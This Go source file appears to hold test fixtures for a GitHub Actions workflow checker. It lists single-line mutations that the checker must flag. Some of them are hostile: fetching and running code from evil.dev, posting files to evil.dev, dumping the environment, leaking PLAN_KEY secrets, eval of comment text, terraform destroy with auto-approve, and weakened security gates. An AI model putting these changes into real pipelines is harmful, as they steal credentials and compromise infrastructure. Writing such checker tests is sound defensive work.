package workflow

// Attacks by which the judge was tried by somebody who had not read it. Each changes one place.
var (
	fromOutsideOnInfrastructure = []attack{
		{"by the clock", "", "  push:\n",
			"  schedule:\n    - cron: '0 0 * * *'\n" +
				"  push:\n",
			"event schedule"},
		{"of tags", "", "  push:\n    branches: [\"main\"]",
			"  push:\n    branches: [\"main\"]\n" +
				"    tags: [\"*\"]",
			"unknown-key push tags"},
		{"of labels", "", "  pull_request:\n",
			"  pull_request:\n    types: [closed, labeled]\n",
			"unknown-key pull_request types"},
		{"by another workflow", "", "  push:\n",
			"  workflow_call:\n  push:\n",
			"event workflow_call"},
		{"old commands for all jobs", "", "permissions: {} # each job states its own\n",
			"permissions: {} # each job states its own\n" +
				"env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: \"true\"\n",
			"unknown-key all env"},
		{"a pipe that fails in silence", "", "-euo pipefail {0}",
			"-eu {0}",
			"shell workflow"},
		{"a login shell", "", "bash --noprofile --norc -euo pipefail {0}",
			"bash -leuo pipefail {0}",
			"shell workflow"},
		{"a group a run", "", "infrastructure-llm-proxy-${{ github.event.pull_request.number || 'apply' }}",
			"infra-${{ github.run_id }}",
			"concurrency by run"},
		{"job continue-on-error", "plan", "    timeout-minutes: 30\n",
			"    timeout-minutes: 30\n    continue-on-error: true\n",
			"unknown-key plan continue-on-error"},
		{"job matrix", "synthesize", "    timeout-minutes: 30\n",
			"    timeout-minutes: 30\n    strategy:\n" +
				"      matrix: ${{ fromJSON(github.event.pull_request.body) }}\n",
			"unknown-key synthesize strategy"},
		{"job shell", "plan", "    timeout-minutes: 30\n",
			"    timeout-minutes: 30\n    defaults:\n" +
				"      run:\n        shell: bash {0}\n",
			"unknown-key plan defaults"},
		{"job concurrency", "apply", "    environment:",
			"    concurrency: {group: x, cancel-in-progress: true}\n" +
				"    environment:",
			"unknown-key apply concurrency"},
		{"reusable job", "plan", "    runs-on: ubuntu-24.04\n",
			"    uses: evil/x/.github/workflows/a.yml@main\n" +
				"    secrets: inherit\n    runs-on: ubuntu-24.04\n",
			"unknown-key plan uses"},
		{"runner latest", "synthesize", "ubuntu-24.04",
			"ubuntu-latest",
			"unpinned synthesize runner"},
		{"container synth", "synthesize", "    runs-on: ubuntu-24.04\n",
			"    runs-on: ubuntu-24.04\n    container: node:22\n",
			"unknown-key synthesize container"},
		{"services docker", "plan", "    runs-on: ubuntu-24.04\n",
			"    runs-on: ubuntu-24.04\n    services: {a: {image: evil/x}}\n",
			"unknown-key plan services"},
		{"env printed", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          env | base64\n      - uses: aws-actions/configure-aws-credentials",
			"unknown-program plan More env"},
		{"echo to GITHUB_ENV via tee", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          cat \"$RUNNER_TEMP/handed/x\" | tee -a \"$GITHUB_ENV\"\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"another-call plan More cat"},
		{"path by export", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          export PATH=\"$RUNNER_TEMP/stack:$PATH\"\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"unknown-program plan More export"},
		{"cp tool from data", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          cp \"$RUNNER_TEMP/stack/terraform\" /usr/local/bin/\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"another-call plan More cp"},
		{"terraformrc from data", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          cp \"$RUNNER_TEMP/stack/terraformrc\" ~/.terraformrc\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"another-call plan More cp"},
		{"source data", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          . \"$RUNNER_TEMP/handed/env.sh\"\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"unknown-program plan More ."},
		{"run data", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          \"$RUNNER_TEMP/stack/assets/run\"\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"another-call plan More"},
		{"xargs sh", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          cat \"$RUNNER_TEMP/stack/x\" | xargs -0 sh -c\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"another-call plan More cat"},
		{"wget exec", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          wget -O x https://evil.dev/x && chmod +x x && ./x\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"unknown-program plan More wget"},
		{"curl tar tool", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          curl -sSLo \"$RUNNER_TEMP/bin/tflint\" https://evil.dev/tflint\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"another-call plan More curl"},
		{"curl out", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          curl -d @\"$RUNNER_TEMP/stack/cdk.tf.json\" https://evil.dev/\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"another-call plan More curl"},
		{"sudo apt", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          sudo apt install -y x\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"unknown-program plan More sudo"},
		{"snap", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          sudo snap install terraform --classic\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"unknown-program plan More sudo"},
		{"brew", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          brew install terraform\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"unknown-program plan More brew"},
		{"gh ext", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          gh extension install evil/x\n" +
				"      - uses: aws-actions/configure-aws-credentials",
			"another-call plan More gh"},
		{"docker run", "plan", "      - uses: aws-actions/configure-aws-credentials",
			"      - name: More\n        run: |\n" +
				"          docker run evil/x\n      - uses: aws-actions/configure-aws-credential" +
				"s",
			"unknown-program plan More docker"},
		{"terraform get", "plan", "validate\n",
			"validate\n          terraform get -update\n",
			"another-call plan Initialize terraform"},
		{"tf apply in plan", "plan", "validate\n",
			"validate\n          terraform -chdir=\"$RUNNER_TEMP/stack\" apply -auto-approve" +
				"\n",
			"another-call plan Initialize terraform"},
		{"tf destroy in apply", "apply", "validate\n",
			"validate\n          terraform -chdir=\"$RUNNER_TEMP/stack\" destroy -auto-appro" +
				"ve\n",
			"another-call apply Initialize terraform"},
		{"tf import in apply", "apply", "validate\n",
			"validate\n          terraform -chdir=\"$RUNNER_TEMP/stack\" import a.b c\n",
			"another-call apply Initialize terraform"},
		{"set +e", "plan", "          settings=()\n",
			"          set +e\n          settings=()\n",
			"unknown-program plan Initialize set"},
		{"set +o pipefail", "plan", "          settings=()\n",
			"          set +o pipefail\n          settings=()\n",
			"unknown-program plan Initialize set"},
		{"trap", "plan", "          settings=()\n",
			"          trap 'exit 0' EXIT\n          settings=()\n",
			"unknown-program plan Initialize trap"},
		{"stop-commands gone", "plan", "::stop-commands::",
			"::debug::",
			"stack-commands plan Initialize"},
		{"stop-commands gone apply", "apply", "::stop-commands::",
			"::debug::",
			"stack-commands apply Initialize"},
		{"plan-review no fail-on", "plan", " --fail-on high",
			"",
			"another-gate fork plan-review"},
		{"plan-review weaker", "plan", "--fail-on high",
			"--fail-on critical",
			"another-gate fork plan-review"},
		{"plan exit ignored", "plan", "            *) exit \"$code\" ;;\n",
			"            *) changes=true ;;\n",
			"check-gone plan Plan"},
		{"review of another file", "plan", "show -json \"$RUNNER_TEMP/planned/plan\"",
			"show -json \"$RUNNER_TEMP/handed/plan\"",
			"another-call plan Review terraform"},
		{"target", "plan", "-detailed-exitcode",
			"-detailed-exitcode -target=aws_sqs_queue.x",
			"another-call plan Plan terraform"},
		{"plan -var-file", "plan", "-detailed-exitcode",
			"-detailed-exitcode -var-file=\"$RUNNER_TEMP/handed/x\"",
			"another-call plan Plan terraform"},
		{"seal if always", "plan", "if: github.event_name == 'push' && steps.plan.outputs.changes == 'true'",
			"if: always() && github.event_name == 'push' && steps.plan.outputs.changes == 't" +
				"rue'",
			"after-failure plan Seal the plan"},
		{"outputs plan key", "apply", "    environment:",
			"    outputs: {key: \"${{ secrets.PLAN_KEY }}\"}\n" +
				"    environment:",
			"secret apply"},
		{"env key job", "apply", "      STACK:",
			"      KEY: ${{ secrets.PLAN_KEY }}\n" +
				"      STACK:",
			"secret apply"},
		{"apply upload state", "apply", "      - name: Apply\n",
			"      - uses: actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f " +
				"# v7.0.0\n        with:\n          name: x\n" +
				"          path: ${{ runner.temp }}/state.json\n" +
				"          retention-days: 1\n      - name: Apply\n",
			"plan-in-the-open apply"},
		{"plan upload json", "plan", "      - name: Seal the plan\n",
			"      - uses: actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f " +
				"# v7.0.0\n        with:\n          name: x\n" +
				"          path: ${{ runner.temp }}/review-source.json\n" +
				"          retention-days: 1\n      - name: Seal the plan\n",
			"plan-in-the-open plan"},
		{"overwrite artifact", "plan", "          if-no-files-found: error\n",
			"          if-no-files-found: error\n" +
				"          overwrite: true\n",
			"unknown-input plan actions/upload-artifact overwrite"},
		{"hidden files", "synthesize", "          if-no-files-found: error\n",
			"          if-no-files-found: ignore\n" +
				"          include-hidden-files: true\n",
			"unknown-input synthesize actions/upload-artifact include-hidden-files"},
		{"tar -C /", "plan", "--directory \"$RUNNER_TEMP/stack\" --no-same-owner",
			"--directory / --no-same-owner",
			"another-call plan Unpack the stack tar"},
		{"tar absolute", "plan", "tar --extract --file",
			"tar --extract --absolute-names --file",
			"another-call plan Unpack the stack tar"},
		{"mkdir -p", "plan", "mkdir \"$RUNNER_TEMP/stack\"",
			"mkdir -p \"$RUNNER_TEMP/stack\"",
			"check-gone plan Unpack the stack"},
		{"allow provider any", "plan", "stack-check --backend s3",
			"stack-check --provider evil/x --backend s3",
			"another-gate fork stack-check"},
		{"comment edits any", "comment", ".user.login == \"github-actions[bot]\" and ",
			"",
			"check-gone comment Comment on the pull request"},
		{"comment body eval", "comment", "          {\n            echo \"$MARKER\"\n",
			"          eval \"echo $COMMENT\"\n" +
				"          {\n            echo \"$MARKER\"\n",
			"unknown-program comment Comment on the pull request eval"},
		{"comment heredoc fixed", "plan", "echo \"comment<<$end\"",
			"echo \"comment<<EOF\"",
			"check-gone plan Hand over the review"},
		{"role chaining", "apply", "          role-to-assume:",
			"          role-chaining: true\n" +
				"          role-to-assume:",
			"unknown-input apply aws-actions/configure-aws-credentials role-chaining"},
		{"audience", "apply", "          role-to-assume:",
			"          audience: evil\n          role-to-assume:",
			"unknown-input apply aws-actions/configure-aws-credentials audience"},
		{"role skip session tag inline policy none", "apply", "          role-to-assume:",
			"          output-credentials: true\n" +
				"          role-to-assume:",
			"unknown-input apply aws-actions/configure-aws-credentials output-credentials"},
		{"role long", "plan", "          role-to-assume:",
			"          role-duration-seconds: 43200\n" +
				"          role-to-assume:",
			"role-for-long plan"},
		{"checkout sub", "synthesize", "persist-credentials: false\n",
			"persist-credentials: false\n          submodules: recursive\n",
			"unknown-input synthesize actions/checkout submodules"},
		{"checkout ssh", "synthesize", "persist-credentials: false\n",
			"persist-credentials: false\n          ssh-key: ${{ secrets.SSH }}\n",
			"unknown-input synthesize actions/checkout ssh-key"},
		{"checkout lfs", "synthesize", "persist-credentials: false\n",
			"persist-credentials: false\n          lfs: true\n",
			"unknown-input synthesize actions/checkout lfs"},
		{"action other pin", "plan", "@dfe3c3f87815947d99a8997f908cb6525fc44e9e",
			"@0000000000000000000000000000000000000000",
			"unpinned plan hashicorp/setup-terraform"},
		{"fork sees plan", "fork", "    permissions: {}\n",
			"    permissions:\n      pull-requests: write\n",
			"permission fork"},
		{"fork secret", "fork", "        run: |\n          reason",
			"        env:\n          K: ${{ secrets.PLAN_KEY }}\n" +
				"        run: |\n          reason",
			"secret fork Review secrets.PLAN_KEY"},
		{"fork condition gone", "fork", "github.event.pull_request.head.repo.full_name != github.repository",
			"true",
			"when fork"},
		{"plan actor", "plan", "github.event.pull_request.head.repo.full_name == github.repository",
			"github.actor == 'dependabot[bot]'",
			"when plan"},
		{"workspace write", "plan", "path: ${{ runner.temp }}/handed",
			"path: ${{ runner.temp }}/bin",
			"artifact-place plan"},
		{"tf env job", "plan", "      TF_IN_AUTOMATION:",
			"      TF_CLI_ARGS_apply: \"-auto-approve\"\n" +
				"      TF_IN_AUTOMATION:",
			"tool-settings plan TF_CLI_ARGS_apply"},
		{"tf log", "plan", "      TF_IN_AUTOMATION:",
			"      TF_LOG: TRACE\n      TF_IN_AUTOMATION:",
			"tool-settings plan TF_LOG"},
		{"goflags job", "plan", "      TF_IN_AUTOMATION:",
			"      GOFLAGS: -toolexec=x\n      TF_IN_AUTOMATION:",
			"tool-settings plan GOFLAGS"},
		{"goproxy step", "plan", "          GOBIN=\"$RUNNER_TEMP/bin\" go install",
			"          GONOSUMDB='*' GOBIN=\"$RUNNER_TEMP/bin\" go install",
			"another-call plan Install fargateai"},
		{"set -x", "apply", "          mkdir \"$RUNNER_TEMP/planned\"\n",
			"          set -x\n          mkdir \"$RUNNER_TEMP/planned\"\n",
			"unknown-program apply Open the plan set"},
		{"key echoed", "apply", "          mkdir \"$RUNNER_TEMP/planned\"\n",
			"          printf '%s' \"$KEY\" > \"$RUNNER_TEMP/plan.key\"\n" +
				"          mkdir \"$RUNNER_TEMP/planned\"\n",
			"another-call apply Open the plan"},
	}
	fromOutsideOnDeployments = []attack{
		{"a group a commit", "", "group: \"deploy-ai-llm-proxy\"",
			"group: \"deploy-${{ github.sha }}\"",
			"concurrency by run"},
		{"deploy checkout ref", "deploy", "          persist-credentials: false\n",
			"          persist-credentials: false\n" +
				"          ref: ${{ github.head_ref }}\n",
			"unknown-input deploy actions/checkout ref"},
		{"eval no digest", "deploy", "--digest \"$IMAGE_DIGEST\" \\\n" +
			"            ",
			"",
			"check-gone deploy Judge the evaluation again"},
		{"eval lower rate deploy", "deploy", "--min-pass-rate 0.97",
			"--min-pass-rate 0.5",
			"another-gate deploy eval-gate"},
		{"eval baseline from results", "deploy", "\"$GITHUB_WORKSPACE\"/'evals/main.json'",
			"'results.json'",
			"another-gate deploy eval-gate"},
		{"eval if", "deploy", "        id: judge",
			"        if: github.event.head_commit.message != 'skip'\n" +
				"        id: judge",
			"check-gone deploy Judge the evaluation again if"},
		{"judge skipped var", "deploy", "        id: judge",
			"        if: vars.SKIP != 'true'\n" +
				"        id: judge",
			"check-gone deploy Judge the evaluation again if"},
		{"image by tag", "deploy", "@${{ needs.push.outputs.digest }}",
			":latest",
			"image-of-whom deploy"},
		{"digest of build env", "deploy", "@${{ needs.push.outputs.digest }}",
			"@${{ vars.DIGEST }}",
			"image-of-whom deploy"},
		{"regex gone", "deploy", "if [[ ! \"$IMAGE\" =~ @sha256:[0-9a-f]{64}$ ]]; then",
			"if [[ -z \"$IMAGE\" ]]; then",
			"check-gone deploy Register the task definition"},
		{"guard gone", "deploy", "if [[ -s \"$RUNNER_TEMP/refused\" ]]; then",
			"if false; then",
			"check-gone deploy Register the task definition"},
		{"push latest too", "push", "pushed=$(",
			"\"$RUNNER_TEMP/bin/crane\" tag \"$REPOSITORY@$DIGEST\" latest\n" +
				"          pushed=$(",
			"another-call push Push"},
		{"push digest check gone", "push", "if [[ \"$pushed\" != \"$REPOSITORY@$DIGEST\" ]]; then",
			"if [[ -z \"$pushed\" ]]; then",
			"check-gone push Push"},
		{"registry check gone", "push", "if [[ ! \"${REPOSITORY%%/*}\" =~ $registry ]]; then",
			"if [[ -z \"$REPOSITORY\" ]]; then",
			"check-gone push Push"},
		{"docker login", "push", "aws ecr get-login-password",
			"docker login -u AWS -p \"$(aws ecr get-login-password)\" \"$REPOSITORY\"\n" +
				"          aws ecr get-login-password",
			"unknown-program push Push docker"},
		{"build args secret", "build", "          provenance: false",
			"          build-args: K=${{ secrets.K }}\n" +
				"          provenance: false",
			"unknown-input build Builddocker/build-push-action build-args"},
		{"build insecure", "build", "          driver-opts:",
			"          buildkitd-flags: --allow-insecure-entitlement security.insecure\n" +
				"          driver-opts:",
			"unknown-input build docker/setup-buildx-action buildkitd-flags"},
		{"build ssh", "build", "          provenance: false",
			"          ssh: default\n          provenance: false",
			"unknown-input build Builddocker/build-push-action ssh"},
		{"deploy if always", "deploy", "    needs: [build, evaluate, push]\n",
			"    needs: [build, evaluate, push]\n" +
				"    if: always()\n",
			"after-failure deploy"},
		{"deploy if not cancelled", "deploy", "    needs: [build, evaluate, push]\n",
			"    needs: [build, evaluate, push]\n" +
				"    if: ${{ !cancelled() }}\n",
			"after-failure deploy"},
		{"push before evaluate", "push", "needs: [build, evaluate]",
			"needs: [build]",
			"needs push evaluate"},
		{"rollback check gone", "deploy", "if [[ \"$runs\" != \"$REGISTERED\" ]]; then",
			"if false; then",
			"check-gone deploy Detect a rollback"},
		{"smoke insecure", "deploy", "curl --fail",
			"curl --insecure --fail",
			"another-call deploy Smoke test curl"},
		{"smoke option", "deploy", "--url \"$URL\"",
			"\"$URL\"",
			"another-call deploy Smoke test curl"},
		{"smoke no fail", "deploy", "curl --fail",
			"curl",
			"another-call deploy Smoke test curl"},
		{"exec command", "deploy", "update-service --cluster",
			"update-service --enable-execute-command --cluster",
			"another-call deploy Update the service"},
		{"results cached", "evaluate", "      - name: Pack the results\n",
			"      - uses: actions/cache/restore@27d5ce7f107fe9357f9df03efb73ab90386fccae # " +
				"v5.0.5\n        with:\n          path: results.json\n" +
				"          key: x\n      - name: Pack the results\n",
			"cache evaluate"},
		{"old results", "evaluate", "rm -f -- ",
			"true ",
			"check-gone evaluate Evaluate"},
		{"eval secret in job env", "evaluate", "      IMAGE_DIGEST:",
			"      K: ${{ secrets.K }}\n      IMAGE_DIGEST:",
			"secret evaluate"},
	}
	fromOutsideOnGreen = []attack{
		{"promote any", "promote", "needs.deploy.result == 'success'",
			"needs.deploy.result != 'failure'",
			"after-failure promote"},
		{"green self-hosted evaluate token", "evaluate", "      contents: read\n",
			"      contents: read\n      id-token: write\n",
			"unknown-program evaluate Evaluate make"},
		{"actions env", "deploy", "      CLUSTER:",
			"      ACTIONS_STEP_DEBUG: \"true\"\n" +
				"      CLUSTER:",
			"tool-settings deploy ACTIONS_STEP_DEBUG"},
		{"unsecure", "deploy", "      CLUSTER:",
			"      ACTIONS_ALLOW_UNSECURE_COMMANDS: \"true\"\n" +
				"      CLUSTER:",
			"tool-settings deploy ACTIONS_ALLOW_UNSECURE_COMMANDS"},
		{"node runtime", "deploy", "      CLUSTER:",
			"      NODE_OPTIONS: \"--require ./x\"\n" +
				"      CLUSTER:",
			"tool-settings deploy NODE_OPTIONS"},
		{"aws endpoint env", "deploy", "      CLUSTER:",
			"      AWS_ENDPOINT_URL: ${{ vars.X }}\n" +
				"      CLUSTER:",
			"tool-settings deploy AWS_ENDPOINT_URL"},
		{"aws config file", "deploy", "      CLUSTER:",
			"      AWS_CONFIG_FILE: deploy/config\n" +
				"      CLUSTER:",
			"tool-settings deploy AWS_CONFIG_FILE"},
	}
)
